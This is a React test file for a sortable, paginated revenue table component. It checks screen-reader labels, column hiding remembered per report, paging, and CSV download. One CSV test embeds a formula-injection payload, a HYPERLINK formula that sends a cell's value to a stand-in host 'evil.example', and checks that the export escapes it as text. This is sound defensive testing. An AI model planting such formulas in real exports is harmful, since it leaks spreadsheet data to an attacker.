import { render, screen, within } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { useState } from 'react';
import type { ColumnStorage } from './column-visibility';
import { TableCard, type TableCardProps } from './table-card';
import type { TableHeader, TableQuery, TableRow } from './types';

const headers: TableHeader[] = [
  { key: 'date', label: 'Date', isSortable: true, required: true, defaultSort: true },
  { key: 'orders', label: 'Orders', isSortable: true, isNumeric: true },
  { key: 'net', label: 'Net sales', isSortable: true, isNumeric: true },
  {
    key: 'tax',
    label: 'Tax',
    screenReaderLabel: 'Total tax',
    isSortable: true,
    hiddenByDefault: true,
  },
];

const row = (date: string, orders: number, net: number, tax: number): TableRow => [
  { display: date, value: date },
  { display: String(orders), value: orders },
  { display: `$${net}`, value: net },
  { display: `$${tax}`, value: tax },
];

const rows: TableRow[] = [row('2026-01-02', 4, 120, 12), row('2026-01-01', 2, 80, 8)];

function memoryStorage(): ColumnStorage & { data: Map<string, string> } {
  const data = new Map<string, string>();
  return {
    data,
    getItem: (key) => data.get(key) ?? null,
    setItem: (key, value) => {
      data.set(key, value);
    },
  };
}

type HarnessProps = Partial<TableCardProps> & {
  initialQuery?: TableQuery;
  onChange?: (q: TableQuery) => void;
};

/** Keeps the query like a page keeps the URL. */
function Harness({ initialQuery = {}, onChange, ...props }: HarnessProps) {
  const [query, setQuery] = useState<TableQuery>(initialQuery);
  return (
    <TableCard
      title="Revenue"
      headers={headers}
      rows={rows}
      totalRows={2}
      rowsPerPage={25}
      reportId="revenue"
      storage={memoryStorage()}
      {...props}
      query={query}
      onQueryChange={(update) => {
        onChange?.(update);
        setQuery((q) => ({ ...q, ...update }));
      }}
    />
  );
}

const header = (name: string) => screen.getByRole('columnheader', { name });

describe('TableCard: table', () => {
  it('has a caption, column headers and row headers for screen readers', () => {
    render(<Harness />);
    const table = screen.getByRole('table', { name: 'Revenue' });
    const columns = within(table).getAllByRole('columnheader');
    expect(columns).toHaveLength(3);
    ['Date', 'Orders', 'Net sales'].forEach((name, i) => {
      expect(within(table).getByRole('columnheader', { name })).toBe(columns[i]);
    });
    expect(within(table).getByRole('rowheader', { name: '2026-01-02' })).toBeInTheDocument();
    expect(within(table).getByRole('cell', { name: '$120' })).toBeInTheDocument();
  });

  it('shows the default sort with aria-sort and leaves other sortable headers at none', () => {
    render(<Harness />);
    expect(header('Date')).toHaveAttribute('aria-sort', 'descending');
    expect(header('Orders')).toHaveAttribute('aria-sort', 'none');
  });

  it('reads the screen-reader label of a header instead of its label', async () => {
    render(<Harness initialQuery={{ orderby: 'tax', order: 'asc' }} />);
    expect(header('Total tax')).toHaveAttribute('aria-sort', 'ascending');
  });

  it('flips the sorted column and starts a new column at desc', async () => {
    const user = userEvent.setup();
    const onChange = vi.fn();
    render(<Harness onChange={onChange} />);
    await user.click(screen.getByRole('button', { name: 'Date' }));
    expect(onChange).toHaveBeenLastCalledWith({ orderby: 'date', order: 'asc' });
    expect(header('Date')).toHaveAttribute('aria-sort', 'ascending');
    await user.click(screen.getByRole('button', { name: 'Net sales' }));
    expect(onChange).toHaveBeenLastCalledWith({ orderby: 'net', order: 'desc' });
    expect(header('Net sales')).toHaveAttribute('aria-sort', 'descending');
    expect(header('Date')).toHaveAttribute('aria-sort', 'none');
  });

  it('describes what activating a sort button does', () => {
    render(<Harness />);
    expect(screen.getByRole('button', { name: 'Date' })).toHaveAccessibleDescription(
      'Sort by Date in ascending order',
    );
    expect(screen.getByRole('button', { name: 'Orders' })).toHaveAccessibleDescription(
      'Sort by Orders in descending order',
    );
  });

  it("says 'No data to display' without rows", () => {
    render(<Harness rows={[]} totalRows={0} />);
    expect(screen.getByRole('cell', { name: 'No data to display' })).toBeInTheDocument();
  });

  it('shows a 5-row placeholder and announces loading', () => {
    render(<Harness isLoading />);
    expect(screen.getByRole('status')).toHaveTextContent('Your requested data is loading');
    expect(screen.queryByRole('table')).not.toBeInTheDocument();
    const placeholder = document.querySelector('table.is-placeholder');
    expect(placeholder?.querySelectorAll('tbody tr')).toHaveLength(5);
    expect(screen.getByRole('button', { name: 'Download' })).toBeDisabled();
  });

  it('shows the summary row', () => {
    render(
      <Harness
        summary={[
          { label: 'orders', value: '6' },
          { label: 'net sales', value: '$200' },
        ]}
      />,
    );
    const list = screen.getByRole('list', { name: 'Table summary' });
    expect(
      within(list)
        .getAllByRole('listitem')
        .map((i) => i.textContent),
    ).toEqual(['6 orders', '$200 net sales']);
  });
});

describe('TableCard: columns', () => {
  it('lists optional columns in the menu, hiding hiddenByDefault ones', async () => {
    const user = userEvent.setup();
    render(<Harness />);
    await user.click(screen.getByRole('button', { name: 'Choose which values to display' }));
    expect(screen.getAllByRole('menuitemcheckbox')).toHaveLength(3);
    const checked = (name: string) =>
      screen.getByRole('menuitemcheckbox', { name }).getAttribute('aria-checked');
    expect(checked('Orders')).toBe('true');
    expect(checked('Net sales')).toBe('true');
    expect(checked('Tax')).toBe('false');
    expect(screen.queryByRole('menuitemcheckbox', { name: 'Date' })).not.toBeInTheDocument();
  });

  it('shows and hides columns and remembers the choice per report', async () => {
    const user = userEvent.setup();
    const storage = memoryStorage();
    const onColumnsChange = vi.fn();
    const { unmount } = render(<Harness storage={storage} onColumnsChange={onColumnsChange} />);
    await user.click(screen.getByRole('button', { name: 'Choose which values to display' }));
    await user.click(screen.getByRole('menuitemcheckbox', { name: 'Tax' }));
    await user.click(screen.getByRole('menuitemcheckbox', { name: 'Orders' }));
    expect(screen.getByRole('columnheader', { name: 'Total tax' })).toBeInTheDocument();
    expect(screen.queryByRole('columnheader', { name: 'Orders' })).not.toBeInTheDocument();
    expect(onColumnsChange).toHaveBeenLastCalledWith(['date', 'net', 'tax'], 'orders');
    unmount();

    render(<Harness storage={storage} />);
    expect(screen.getByRole('columnheader', { name: 'Total tax' })).toBeInTheDocument();
    expect(screen.queryByRole('columnheader', { name: 'Orders' })).not.toBeInTheDocument();
    render(<Harness storage={storage} reportId="orders" title="Orders report" />);
    expect(
      within(screen.getByRole('table', { name: 'Orders report' })).getByRole('columnheader', {
        name: 'Orders',
      }),
    ).toBeInTheDocument();
  });

  it('drops the hidden column cells from every row', async () => {
    const user = userEvent.setup();
    render(<Harness />);
    await user.click(screen.getByRole('button', { name: 'Choose which values to display' }));
    await user.click(screen.getByRole('menuitemcheckbox', { name: 'Net sales' }));
    expect(screen.queryByRole('cell', { name: '$120' })).not.toBeInTheDocument();
    expect(screen.getByRole('cell', { name: '4' })).toBeInTheDocument();
  });

  it('resets the sort to the default column, desc, when the sorted column is hidden', async () => {
    const user = userEvent.setup();
    const onChange = vi.fn();
    render(<Harness onChange={onChange} initialQuery={{ orderby: 'net', order: 'asc' }} />);
    await user.click(screen.getByRole('button', { name: 'Choose which values to display' }));
    await user.click(screen.getByRole('menuitemcheckbox', { name: 'Net sales' }));
    expect(onChange).toHaveBeenLastCalledWith({ orderby: 'date', order: 'desc' });
    expect(header('Date')).toHaveAttribute('aria-sort', 'descending');
  });

  it('does not touch the sort when another column is hidden', async () => {
    const user = userEvent.setup();
    const onChange = vi.fn();
    render(<Harness onChange={onChange} initialQuery={{ orderby: 'net', order: 'asc' }} />);
    await user.click(screen.getByRole('button', { name: 'Choose which values to display' }));
    await user.click(screen.getByRole('menuitemcheckbox', { name: 'Orders' }));
    expect(onChange).not.toHaveBeenCalled();
  });

  it('shows a hidden column when the query sorts by it, and keeps it shown', async () => {
    const user = userEvent.setup();
    const storage = memoryStorage();
    render(<Harness storage={storage} initialQuery={{ orderby: 'tax', order: 'desc' }} />);
    expect(header('Total tax')).toHaveAttribute('aria-sort', 'descending');
    await user.click(screen.getByRole('button', { name: 'Date' }));
    expect(screen.getByRole('columnheader', { name: 'Total tax' })).toBeInTheDocument();
    expect(JSON.parse(storage.data.get('storelens:table-columns:revenue') ?? '{}')).toMatchObject({
      tax: true,
    });
  });
});

describe('TableCard: pagination and download', () => {
  const many = Array.from({ length: 25 }, (_, i) => row(`2026-01-${i + 1}`, i, i * 10, i));

  it('writes the page and rows per page to the query', async () => {
    const user = userEvent.setup();
    const onChange = vi.fn();
    render(<Harness rows={many} totalRows={230} onChange={onChange} initialQuery={{ paged: 9 }} />);
    expect(screen.getByText('Page 9 of 10')).toBeInTheDocument();
    await user.click(screen.getByRole('button', { name: 'Previous page' }));
    expect(onChange).toHaveBeenLastCalledWith({ paged: 8 });
    await user.selectOptions(screen.getByRole('combobox', { name: 'Rows per page' }), '100');
    expect(onChange).toHaveBeenLastCalledWith({ per_page: 100, paged: 3 });
    expect(screen.getByText('Page 3 of 3')).toBeInTheDocument();
  });

  it('downloads every column of the shown rows as CSV, hidden ones included', async () => {
    const user = userEvent.setup();
    const onDownload = vi.fn();
    vi.useFakeTimers({ toFake: ['Date'] });
    vi.setSystemTime(new Date(2026, 0, 5, 10, 0));
    render(<Harness onDownload={onDownload} />);
    await user.click(screen.getByRole('button', { name: 'Download' }));
    vi.useRealTimers();
    expect(onDownload).toHaveBeenCalledWith(
      'revenue_2026-01-05.csv',
      'Date,Orders,Net sales,Tax\n2026-01-02,4,120,12\n2026-01-01,2,80,8\n',
    );
  });

  it('downloads a formula-looking cell as text, and a negative number as a number', async () => {
    const user = userEvent.setup();
    const onDownload = vi.fn();
    const formula = '=HYPERLINK("http://evil.example/?x="&A2,"Click")';
    const hostile: TableRow[] = [
      [
        { display: formula, value: formula },
        { display: '-3', value: -3 },
        { display: '-$12.50', value: -12.5 },
        { display: '@x', value: '@SUM(1+1)' },
      ],
    ];
    render(<Harness rows={hostile} totalRows={1} onDownload={onDownload} />);
    await user.click(screen.getByRole('button', { name: 'Download' }));
    expect(onDownload.mock.calls[0]?.[1]).toBe(
      'Date,Orders,Net sales,Tax\n' +
        `"'=HYPERLINK(""http://evil.example/?x=""&A2,""Click"")",-3,-12.5,'@SUM(1+1)\n`,
    );
  });

  it('lets the caller handle the download (e.g. a server export)', async () => {
    const user = userEvent.setup();
    const onDownload = vi.fn();
    const onDownloadRequest = vi.fn();
    render(<Harness onDownload={onDownload} onDownloadRequest={onDownloadRequest} />);
    await user.click(screen.getByRole('button', { name: 'Download' }));
    expect(onDownloadRequest).toHaveBeenCalledOnce();
    expect(onDownload).not.toHaveBeenCalled();
  });

  it('cannot download an empty table', () => {
    render(<Harness rows={[]} totalRows={0} />);
    expect(screen.getByRole('button', { name: 'Download' })).toBeDisabled();
  });
});

function Controlled({ initial, onSave }: { initial: string[]; onSave: (h: string[]) => void }) {
  const [hidden, setHidden] = useState(initial);
  return (
    <Harness
      hiddenColumns={hidden}
      onHiddenColumnsChange={(next) => {
        setHidden(next);
        onSave(next);
      }}
    />
  );
}

describe('TableCard: hidden columns kept by the caller', () => {
  it('shows what the caller says and reports toggles instead of using storage', async () => {
    const user = userEvent.setup();
    const onSave = vi.fn();
    render(<Controlled initial={['net']} onSave={onSave} />);
    expect(screen.queryByRole('columnheader', { name: /Net sales/ })).toBeNull();
    expect(screen.getByRole('columnheader', { name: /Total tax/ })).toBeInTheDocument();
    await user.click(screen.getByRole('button', { name: 'Choose which values to display' }));
    await user.click(screen.getByRole('menuitemcheckbox', { name: 'Net sales' }));
    expect(onSave).toHaveBeenLastCalledWith([]);
    expect(screen.getByRole('columnheader', { name: /Net sales/ })).toBeInTheDocument();
  });
});
